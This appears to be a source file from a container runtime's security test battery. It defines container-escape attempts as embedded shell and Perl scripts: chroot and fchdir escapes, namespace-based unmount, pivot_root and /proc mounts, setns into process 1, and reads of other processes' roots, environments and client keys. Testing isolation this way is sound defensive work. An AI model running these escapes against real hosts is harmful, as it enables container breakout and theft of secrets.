/** Ways out of the root folder of a container, by names, links of /proc, and chroot. */
import { battery, type BatteryItem } from '../harness/battery.ts';
import { perl } from '../harness/perl.ts';
import type { PodShape } from '../harness/pods.ts';
import type { Attack } from '../harness/types.ts';
import { PEEK, PEEK_AROUND } from './peek.ts';

/** Goes up from a folder that is above the root, which chroot does not keep a process from. */
const CHROOT_ESCAPE = `
  opendir(my $top, '/'); mkdir '/tmp/deep'; mkdir '/work/deep';
  for my $jail ('/tmp/deep', '/work/deep') {
    sys('chroot', $jail) == 0 or next;
    chdir $top; chdir '..' for 1 .. 64; my $here = '.'; sys('chroot', $here);
    print slurp($_) for $ENV{SECRET_FILE}, split ' ', $ENV{OPEN_FILES};
    if (open(my $m, '>>', $ENV{MARK})) { print $m 'changed' }
    last;
  }
`;

/** Becomes root of a user namespace, with a mount namespace. */
const NEST = `
  my ($uid, $gid) = ($<, $( + 0);
  sys('unshare', 0x10000000 | 0x20000) == 0 or do { print "unshare: $!\\n"; exit };
  for (['setgroups', 'deny'], ['uid_map', "0 $uid 1"], ['gid_map', "0 $gid 1"]) {
    if (open(my $h, '>', "/proc/self/$_->[0]")) { syswrite($h, $_->[1]) }
  }
`;
const READ_ALL = 'print slurp($_) for $ENV{SECRET_FILE}, split " ", $ENV{OPEN_FILES};';

const ITEMS: readonly BatteryItem[] = [
  {
    id: 'by-name',
    tries: 'It reads files of the machine by their names: they must not be part of its root.',
    script: `${PEEK} peek ''; poke ''`,
  },
  {
    id: 'data-folder',
    tries: "It searches podkeep's data folder for objects and keys.",
    script:
      'find "$DATA" -type f 2>/dev/null | head -n 400 | while read -r file; do ' +
      'strings -n 20 "$file" 2>/dev/null || cat "$file"; done 2>/dev/null | ' +
      `grep -aoE 'canary-[0-9a-f]+-[0-9a-f]+|Y2FuYXJ5L[0-9A-Za-z+/]+|client-key-data: .*' | sort -u | head -n 50; true`,
  },
  {
    id: 'accounts',
    tries: 'It looks for accounts of the machine.',
    modes: ['root', 'user'],
    script: `grep -E '^(daemon|sys|sync|games|mail|pkattack[0-9]*):' /etc/passwd /etc/group | head -n 1 | sed 's/^/SUCCEEDED: an account of the machine: /'`,
  },
  {
    id: 'dot-dot',
    tries: 'It goes up from its root by dots.',
    script: `${PEEK} cd /; peek /..; peek /../../../..; peek ../../../../..; poke /../..`,
  },
  {
    id: 'self-root',
    tries: 'It reads through /proc/self/root and /proc/thread-self/root.',
    script: `${PEEK} for p in /proc/self/root /proc/thread-self/root /proc/self/root/..; do peek $p; poke $p; done`,
  },
  {
    id: 'self-cwd',
    tries: 'It reads from its working directory and above it.',
    script: `${PEEK_AROUND} peek /proc/self/cwd; peek /proc/self/cwd/../../../..`,
  },
  {
    id: 'init-root',
    tries: 'It reads through the root and the working directory of process 1.',
    script: `${PEEK} for p in /proc/1/root /proc/1/cwd /proc/1/task/1/root; do peek $p; poke $p; done`,
  },
  {
    id: 'every-root',
    tries: 'It reads through the root, the working directory and the descriptors of every process.',
    script: `${PEEK} for p in /proc/[0-9]*; do peek $p/root; peek $p/cwd; poke $p/root; for f in $p/fd/*; do [ -d $f ] && peek $f/../../../../../..; done; done`,
  },
  {
    id: 'podkeep-root',
    tries: 'It reads through the root of podkeep and of processes of the machine, by their IDs.',
    script: `${PEEK} for p in $PODKEEP_PID $MACHINE_PIDS; do peek /proc/$p/root; cat /proc/$p/environ 2>/dev/null; done; true`,
  },
  {
    id: 'chroot',
    tries: 'It leaves its root by a second chroot and a folder that it holds open.',
    script: perl(CHROOT_ESCAPE),
  },
  {
    id: 'fchdir',
    tries: 'It changes to every folder that it has a descriptor of and goes up from there.',
    script: perl(`
      for my $fd (3 .. 255) {
        sys('fchdir', $fd) == 0 or next; chdir '..' for 1 .. 64;
        print slurp(".$_") for $ENV{SECRET_FILE}, split ' ', $ENV{OPEN_FILES};
      }`),
  },
  {
    id: 'nested-chroot',
    tries: 'It makes a user namespace, in which it may chroot, and leaves its root so.',
    script: perl(`${NEST} ${CHROOT_ESCAPE}`),
  },
  {
    id: 'nested-unmount',
    tries: 'It makes a user and a mount namespace and unmounts what covers files of the machine.',
    script: perl(`${NEST}
      for my $pass (1 .. 3) {
        for my $line (reverse split /\\n/, slurp('/proc/self/mountinfo')) {
          my $point = (split ' ', $line)[4]; next if $point eq '/proc';
          sys('umount2', $point, 2);
        }
      }
      ${READ_ALL}`),
  },
  {
    id: 'nested-proc',
    tries: 'It makes a user namespace and mounts a /proc that nothing is masked in.',
    script: perl(`${NEST}
      sys('unshare', 0x20000000); my $kid = fork // exit;
      if ($kid) { waitpid $kid, 0; exit }
      my ($proc, $at) = ('proc', '/tmp');
      if (sys('mount', $proc, $at, $proc, 0, 0) == 0) {
        sysopen(my $h, '/tmp/sys/kernel/core_pattern', O_WRONLY) and print "SUCCEEDED: a /proc that can be written was mounted\\n";
        print "SUCCEEDED: an unmasked /proc was mounted: kcore\\n" if sysopen(my $k, '/tmp/kcore', O_RDONLY);
      } else { print "mount: $!\\n" }`),
  },
  {
    id: 'nested-pivot',
    tries: 'It makes a user and a mount namespace and moves the root away with pivot_root.',
    script: perl(`${NEST}
      my ($t, $at, $old) = ('tmpfs', '/tmp', '/tmp/old');
      sys('mount', $t, $at, $t, 0, 0); mkdir $old; sys('pivot_root', $at, $old); chdir '/';
      print slurp("/old$_") for $ENV{SECRET_FILE}, split ' ', $ENV{OPEN_FILES};
      print slurp("/old/..$_") for $ENV{SECRET_FILE};`),
  },
  {
    id: 'join-init',
    tries: 'It joins the mount namespace of process 1 and of podkeep.',
    script: perl(`
      for my $pid (1, split ' ', "$ENV{PODKEEP_PID} $ENV{MACHINE_PIDS}") {
        for my $kind ('user', 'mnt') {
          open(my $ns, '<', "/proc/$pid/ns/$kind") or next;
          my ($a, $b) = ((stat $ns)[1], (stat "/proc/self/ns/$kind")[1]);
          next if $a == $b;
          print "joined $kind of $pid\\n" if sys('setns', fileno $ns, 0) == 0;
        }
        ${READ_ALL}
      }`),
  },
];

function suite(name: string, shape: PodShape): readonly Attack[] {
  const pod = { ...shape, volumes: { work: '/work' } };
  return battery({ class: 'leaving-root', name, pod, items: ITEMS });
}

export const LEAVING_ROOT: readonly Attack[] = [
  ...suite('restricted', {}),
  ...suite('unconfined', { seccomp: 'Unconfined' }),
  ...suite('as-root', { as: 'root' }),
  ...suite('chroot-right', { as: 'root', capabilities: ['SYS_CHROOT', 'SYS_PTRACE'] }),
];
